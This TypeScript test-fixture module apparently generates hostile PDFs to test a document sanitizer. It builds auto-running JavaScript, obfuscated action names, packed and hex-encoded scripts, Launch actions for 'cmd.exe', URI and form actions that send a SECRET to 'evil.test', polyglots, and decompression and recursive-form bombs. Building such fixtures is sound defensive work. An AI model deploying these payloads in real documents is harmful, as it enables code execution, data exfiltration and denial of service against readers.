import { deflateSync } from 'node:zlib'
import { fill, KB, SCRIPT, SECRET, zeros, zip } from './hostile-parts.ts'

type Parts = {
  /** Additional objects. */
  more?: Buffer | string
  /** Data after the end mark. */
  end?: string
  size?: number
  /** Additional entries of the catalog, the trailer and the page. */
  root?: string
  trailer?: string
  page?: string
  box?: string
  /** References to pages, and the declared number of pages. */
  kids?: string
  count?: number
}

/** A PDF with one empty page and the given additions. */
export function pdf(parts: Parts = {}): Buffer {
  const { more = '', end = '', size = 20 * KB, root = '', trailer = '', page = '' } = parts
  const { box = '0 0 300 200', kids = '3 0 R', count = 1 } = parts
  const objects = Buffer.concat([
    Buffer.from(`%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R${root}>>endobj
2 0 obj<</Type/Pages/Kids[${kids}]/Count ${count}>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[${box}]${page}>>endobj
`),
    Buffer.from(more),
  ])
  return Buffer.concat([
    fill(objects, size),
    Buffer.from(`\ntrailer<</Root 1 0 R${trailer}>>\n%%EOF\n${end}`),
  ])
}

/** A stream object. */
export function stream(id: number, entries: string, data: Buffer | string): Buffer {
  const head = `${id} 0 obj<<${entries}/Length ${data.length}>>\nstream\n`
  return Buffer.concat([Buffer.from(head), Buffer.from(data), Buffer.from('\nendstream\nendobj\n')])
}

/** An object stream, as most programs write them. */
function packed(objects: string, id = 4): Buffer {
  const data = deflateSync(Buffer.from(`5 0 ${objects}`))
  return stream(id, '/Type/ObjStm/N 1/First 4/Filter/FlateDecode', data)
}

const hex = (text: string) => `${Buffer.from(text).toString('hex')}>`

/** PDFs with active content. They are accepted and rendered, and nothing but the visible page remains. */
export function activePdfs(): [string, Buffer][] {
  const js = `<</S/JavaScript/JS(app.alert\\('${SECRET}'\\))>>`
  const object = (entries: string) => `4 0 obj<<${entries}>>endobj\n`
  const onOpen = (action: string) => pdf({ root: `/OpenAction${action}` })
  return [
    ['a plain PDF', pdf()],
    ['a PDF of packed pages', pdf({ more: packed('<</Type/Page>>') })],
    ['a PDF that runs a script when it is opened', onOpen(js)],
    ['a PDF whose page runs a script', pdf({ page: `/AA<</O ${js}>>` })],
    ['a PDF with scripts under names', pdf({ root: `/Names<</JavaScript<</Names[(x)${js}]>>>>` })],
    ['a PDF whose script is spelt with escapes', onOpen('<</S/J#61vaScr#69pt/JS(x)>>')],
    ['a PDF whose script hides its first letter', onOpen('<</S/#4AavaScript/JS(x)>>')],
    ['a PDF whose script is packed', pdf({ more: packed(js) })],
    [
      'a PDF whose script is packed in hex',
      pdf({
        more: stream(4, '/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode', hex(`5 0 ${js}`)),
      }),
    ],
    [
      'a PDF whose script is packed twice',
      pdf({
        more: stream(
          4,
          '/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]',
          hex(deflateSync(`5 0 ${js}`).toString('latin1')),
        ),
      }),
    ],
    [
      'a PDF whose packed script lies behind 5 MB of nothing',
      pdf({
        more: packed(`${' '.repeat(5_000_000)}${js}`),
      }),
    ],
    [
      'a PDF with a decoy before its stream',
      pdf({
        more: Buffer.concat([
          Buffer.from('4 0 obj<</Type/ObjStm(stream)>>endobj\n'),
          packed(js, 6),
        ]),
      }),
    ],
    ['a PDF that starts a program', onOpen('<</S/Launch/F(cmd.exe)>>')],
    ['a PDF that starts a program, spelt with escapes', onOpen('<</S/#4Caunch/F(cmd.exe)>>')],
    ['a PDF that opens a page of the web', onOpen(`<</S/URI/URI(https://evil.test/${SECRET})>>`)],
    ['a PDF that sends a form', onOpen('<</S/SubmitForm/F(https://evil.test/)>>')],
    ['a PDF that imports data', onOpen('<</S/ImportData/F(https://evil.test/)>>')],
    ['a PDF that opens another file', onOpen('<</S/GoToR/F(//evil.test/share)/D[0/Fit]>>')],
    ['a PDF that opens a file within', onOpen('<</S/GoToE/T<</R/C/N(x)>>>>')],
    ['a PDF that runs one action after the other', onOpen(`<</S/Named/N/Print/Next ${js}>>`)],
    [
      'a PDF with a link to a script',
      pdf({
        page: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A ${js}>>]`,
      }),
    ],
    [
      'a PDF with a form and a script in its field',
      pdf({
        root: '/AcroForm<</Fields[4 0 R]/NeedAppearances true>>',
        page: '/Annots[4 0 R]',
        more: object(
          `/Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(${SECRET})/Rect[0 0 9 9]/AA<</C ${js}>>`,
        ),
      }),
    ],
    [
      'a PDF with an XFA form',
      pdf({
        root: '/AcroForm<</Fields[]/XFA 4 0 R>>',
        more: stream(4, '', `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">${SCRIPT}</xdp:xdp>`),
      }),
    ],
    [
      'a PDF that carries a file',
      pdf({
        root: '/Names<</EmbeddedFiles<</Names[(run.bat)<</Type/Filespec/EF<</F 4 0 R>>>>]>>>>',
        more: stream(4, '/Type/EmbeddedFile', zip()),
      }),
    ],
    [
      'a PDF that carries a packed mention of a file',
      pdf({ more: packed('<</EmbeddedFiles 9 0 R>>') }),
    ],
    ['a PDF with a film that runs', pdf({ more: object('/Subtype/RichMedia') })],
    [
      'a PDF with a file as a remark',
      pdf({
        page: '/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</F(x)>>>>]',
      }),
    ],
    [
      'a PDF with a picture from elsewhere',
      pdf({
        page: '/Resources<</XObject<</I 4 0 R>>>>/Contents 5 0 R',
        more: Buffer.concat([
          stream(4, '/Type/XObject/Subtype/Image/Width 9/Height 9/F(https://evil.test/x)', ''),
          stream(5, '', 'q 300 0 0 200 0 0 cm /I Do Q'),
        ]),
      }),
    ],
    [
      'a PDF with a page of HTML in its metadata',
      pdf({
        root: '/Metadata 4 0 R',
        more: stream(4, '/Type/Metadata/Subtype/XML', SCRIPT),
      }),
    ],
    ['a PDF with a script as its title', pdf({ trailer: `/Info<</Title(${SCRIPT})>>` })],
    ['a PDF with a ZIP within', pdf({ more: zip() })],
    [
      'a PDF with a page that draws itself',
      pdf({
        page: '/Resources<</XObject<</I 4 0 R>>>>/Contents 5 0 R',
        more: Buffer.concat([
          stream(
            4,
            '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</I 4 0 R>>>>',
            '/I Do',
          ),
          stream(5, '', '/I Do'),
        ]),
      }),
    ],
    ['a PDF with a page as wide as a village', pdf({ box: '0 0 9000000 90000' })],
    ['a PDF that says it has two thousand million pages', pdf({ count: 2_000_000_000 })],
    [
      'a PDF with commands that nobody knows',
      pdf({
        page: '/Contents 4 0 R',
        more: stream(4, '', `${'Q '.repeat(5000)}1e99 -1e99 zz ${'['.repeat(5000)}`),
      }),
    ],
  ]
}

/** PDFs that are refused: unreadable, or polyglots. */
export function badPdfs(): [string, Buffer][] {
  const locked = '/Encrypt<</Filter/Standard/V 1/R 2/P -4/O(0123456789012345678901234567890'
  const kids = '3 0 R '.repeat(21)
  return [
    ['a PDF with a ZIP behind it', Buffer.concat([pdf(), zip()])],
    ['a PDF with a script behind it', pdf({ end: SCRIPT })],
    ['a PDF with a program behind it', Buffer.concat([pdf(), Buffer.from('MZ')])],
    ['a PDF without its end', fill(pdf().subarray(0, 8000))],
    ['a PDF signature and zeros', zeros('%PDF-1.7')],
    ['a PDF signature and an end mark', Buffer.concat([zeros('%PDF-1.7'), Buffer.from('%%EOF')])],
    ['a PDF signature and a page of HTML', fill(`%PDF-1.7\n${SCRIPT}`)],
    [
      'a locked PDF',
      pdf({
        trailer: `${locked}1)/U(01234567890123456789012345678901)>>/ID[(a)(a)]`,
      }),
    ],
    [
      'a PDF locked by a means that nobody knows',
      pdf({ trailer: '/Encrypt<</Filter/Nobody/V 9>>' }),
    ],
    ['a PDF of 21 pages', pdf({ kids, count: 21 })],
    ['a PDF of no page', pdf({ kids: '', count: 0 })],
    ['a PDF whose page is not there', pdf({ kids: '9 0 R' })],
    ['a PDF whose pages are their own parents', pdf({ kids: '2 0 R' })],
    ['a PDF whose page is a line', pdf({ box: '0 0 300 0.001' })],
  ]
}

/** A few megabytes that decompress to six gigabytes: without a limit, a minute of CPU. */
export function bombOfObjectStreams(): Buffer {
  const data = deflateSync(Buffer.alloc(4_194_304, 0x20))
  const one = stream(10, '/Type/ObjStm/N 1/First 4/Filter/FlateDecode', data)
  return pdf({ more: Buffer.concat(Array<Buffer>(1500).fill(one)) })
}

/** Forms that draw each other: 10⁸ drawings from two kilobytes. */
export function bombOfForms(): Buffer {
  const levels = [4, 5, 6, 7, 8, 9, 10, 11]
  const forms = levels.map((id) =>
    stream(
      id,
      `/Type/XObject/Subtype/Form/BBox[0 0 300 200]/Resources<</XObject<</I ${id + 1} 0 R>>>>`,
      '/I Do '.repeat(10),
    ),
  )
  const leaf = stream(12, '/Type/XObject/Subtype/Form/BBox[0 0 300 200]', '0 0 300 200 re f')
  return pdf({
    page: '/Resources<</XObject<</I 4 0 R>>>>/Contents 13 0 R',
    more: Buffer.concat([...forms, leaf, stream(13, '', '/I Do')]),
  })
}
